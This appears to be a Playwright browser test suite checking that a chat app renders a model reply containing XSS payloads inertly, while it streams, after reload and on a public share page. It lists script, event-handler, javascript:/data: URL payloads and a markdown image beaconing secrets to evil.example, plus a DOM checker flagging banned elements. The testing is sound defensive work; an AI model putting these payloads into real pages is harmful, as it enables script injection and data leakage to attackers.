"""Issue 7: a model reply full of XSS payloads renders inert in the browser.

A daphne talks to FakeOpenAI, which streams the payloads in small chunks. The
page must run no script, open no dialog and send no request to another origin,
both while the reply streams and when it is server-rendered from history."""

from __future__ import annotations

from urllib.parse import urlsplit

import pytest

from tests.browser.conftest import serve_app
from tests.browser.test_chat_page import log_in, send, watch_reply
from tests.servers.fake_openai import FakeOpenAI, Reply

try:
    from playwright.sync_api import expect
except ImportError:  # the `browser` fixture skips (or fails under CI)
    expect = None

pytestmark = pytest.mark.browser

PAYLOADS = [
    "<script>window.__xss=1;alert(1)</script>",
    '<img src=x onerror="window.__xss=1">',
    "[click me](javascript:window.__xss=1)",
    '<svg onload="window.__xss=1"></svg>',
    "![leak](http://evil.example/steal?d=secret)",
    '<a href="https://evil.example" onclick="window.__xss=1">x</a>',
    '<iframe src="javascript:window.__xss=1"></iframe>',
    "[data link](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    '<details open ontoggle="window.__xss=1;alert(1)"><summary>s</summary></details>',
]
REPLY_TEXT = "Here you go:\n\n" + "\n\n".join(PAYLOADS) + "\n\nThe end."
SIZES = (3, 5, 8, 4, 6, 7)


def _chunks(text: str) -> list[str]:
    out, i, n = [], 0, 0
    while i < len(text):
        size = SIZES[n % len(SIZES)]
        out.append(text[i : i + size])
        i, n = i + size, n + 1
    return out


REPLY_DOM_PROBLEMS = """() => {
  const problems = [];
  for (const root of document.querySelectorAll("#messages > .msg-assistant")) {
    // The app draws its own avatar and copy icons as <svg>; the model's
    // content must contain none.
    const content = root.querySelector(".msg-content");
    const banned = "script, iframe, svg, object, embed, frame";
    for (const el of content ? content.querySelectorAll(banned) : []) {
      problems.push(`element <${el.tagName.toLowerCase()}>`);
    }
    for (const el of root.querySelectorAll("*")) {
      for (const attr of el.attributes) {
        if (attr.name.toLowerCase().startsWith("on")) {
          problems.push(`${el.tagName.toLowerCase()}[${attr.name}]`);
        }
      }
      for (const name of ["href", "src", "action", "formaction", "xlink:href"]) {
        const value = (el.getAttribute(name) || "").replace(/\\s+/g, "").toLowerCase();
        // A bare URL becomes a link (linkify): a click away, never loaded by
        // itself, and opened without a referrer or an opener.
        const safeLink = el.tagName === "A" && name === "href"
          && /^https?:/.test(value)
          && el.getAttribute("rel") === "noopener noreferrer nofollow";
        if (value.startsWith("javascript:") || value.startsWith("data:")
            || (value.includes("evil.example") && !safeLink)) {
          problems.push(`${el.tagName.toLowerCase()}[${name}=${value}]`);
        }
      }
    }
  }
  return problems;
}"""


@pytest.fixture(scope="module")
def xss_app(tmp_path_factory):
    """(base_url, username, password) of a daphne whose model is FakeOpenAI
    streaming the XSS corpus."""
    with (
        FakeOpenAI(default=Reply(tokens=_chunks(REPLY_TEXT), delay=0.005)) as fake,
        serve_app(
            tmp_path_factory.mktemp("xss_app"),
            LLM_BACKEND="openai",
            OPENAI_BASE_URL=fake.base_url,
            OPENAI_API_KEY="test",
            LLM_MODEL="gpt-4o-mini",
        ) as app,
    ):
        yield app


def _assert_inert(page, dialogs, foreign, where: str) -> None:
    assert page.evaluate("() => typeof window.__xss") == "undefined", where
    assert dialogs == [], f"{where}: dialogs opened: {dialogs}"
    assert foreign == [], f"{where}: requests left for another origin: {foreign}"
    assert page.evaluate(REPLY_DOM_PROBLEMS) == [], where


def test_xss_payloads_in_a_reply_stay_inert(page, xss_app, screenshot_dir):
    base_url = xss_app[0]
    origin = urlsplit(base_url)
    dialogs: list[str] = []
    foreign: list[str] = []

    def on_dialog(dialog):
        dialogs.append(f"{dialog.type}: {dialog.message}")
        dialog.dismiss()

    def on_request(request):
        url = urlsplit(request.url)
        if url.scheme in ("data", "blob", "about"):
            if url.scheme == "data":
                foreign.append(request.url[:80])
            return
        if (url.scheme, url.netloc) not in (
            (origin.scheme, origin.netloc),
            ("ws", origin.netloc),
        ):
            foreign.append(request.url)

    page.on("dialog", on_dialog)
    page.on("request", on_request)

    log_in(page, xss_app)
    send(page, "Show me some tricky markup")
    seen, final = watch_reply(page)
    assert len(seen) >= 2, "the reply streamed in pieces"
    assert final["status"] == "complete"
    assert "The end." in final["text"]
    assert "click me" in final["text"]
    _assert_inert(page, dialogs, foreign, "streamed")

    reply = page.locator("#messages > .msg-assistant").last
    link = reply.get_by_text("click me")
    if link.count():
        link.first.click()
        page.wait_for_timeout(300)
        _assert_inert(page, dialogs, foreign, "after clicking the link")
        assert page.url.startswith(base_url)
    page.screenshot(path=screenshot_dir / "xss.png", full_page=True)

    # The server-rendered path: reload, then open the conversation from history.
    page.reload()
    expect(page.locator("#conn")).to_have_attribute("data-state", "connected")
    expect(page.locator("#messages > .msg-assistant")).to_have_count(1)
    expect(page.locator("#messages > .msg-assistant")).to_contain_text("The end.")
    _assert_inert(page, dialogs, foreign, "reloaded")

    page.goto(f"{base_url}/")
    expect(page.locator("#conn")).to_have_attribute("data-state", "connected")
    page.locator("#conversation-list .conversation-link").first.click()
    expect(page.locator("#messages > .msg-assistant")).to_contain_text("The end.")
    page.wait_for_timeout(300)
    _assert_inert(page, dialogs, foreign, "opened from history")


SHARE = """async (conversation) => {
  const csrf = document.querySelector('meta[name="csrf-token"]').content;
  const response = await fetch(`/api/conversations/${conversation}/share/`, {
    method: "POST",
    headers: {"X-CSRFToken": csrf, "Content-Type": "application/json"},
    body: "{}",
  });
  return (await response.json()).url;
}"""


def test_xss_payloads_in_a_shared_reply_stay_inert(page, browser, xss_app):
    """The public page renders the same reply server-side, for anyone: no script
    runs, no dialog opens, nothing loads from another origin."""
    base_url = xss_app[0]
    origin = urlsplit(base_url)
    log_in(page, xss_app)
    send(page, "Show me some tricky markup to share")
    _, final = watch_reply(page)
    assert final["status"] == "complete"
    conversation = page.evaluate("() => new URL(location.href).searchParams.get('c')")
    url = page.evaluate(SHARE, conversation)
    assert url.startswith(f"{base_url}/share/")

    context = browser.new_context()
    reader = context.new_page()
    dialogs: list[str] = []
    foreign: list[str] = []
    errors: list[str] = []
    reader.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
    reader.on(
        "request",
        lambda r: (
            None if urlsplit(r.url).netloc == origin.netloc else foreign.append(r.url)
        ),
    )
    reader.on("pageerror", lambda exc: errors.append(str(exc)))
    try:
        reader.goto(url)
        expect(reader.locator("#messages > .msg-assistant")).to_contain_text("The end.")
        link = reader.get_by_text("click me")
        if link.count():
            link.first.click()
            reader.wait_for_timeout(300)
        _assert_inert(reader, dialogs, foreign, "shared page")
        assert reader.url == url
        assert errors == []
    finally:
        context.close()
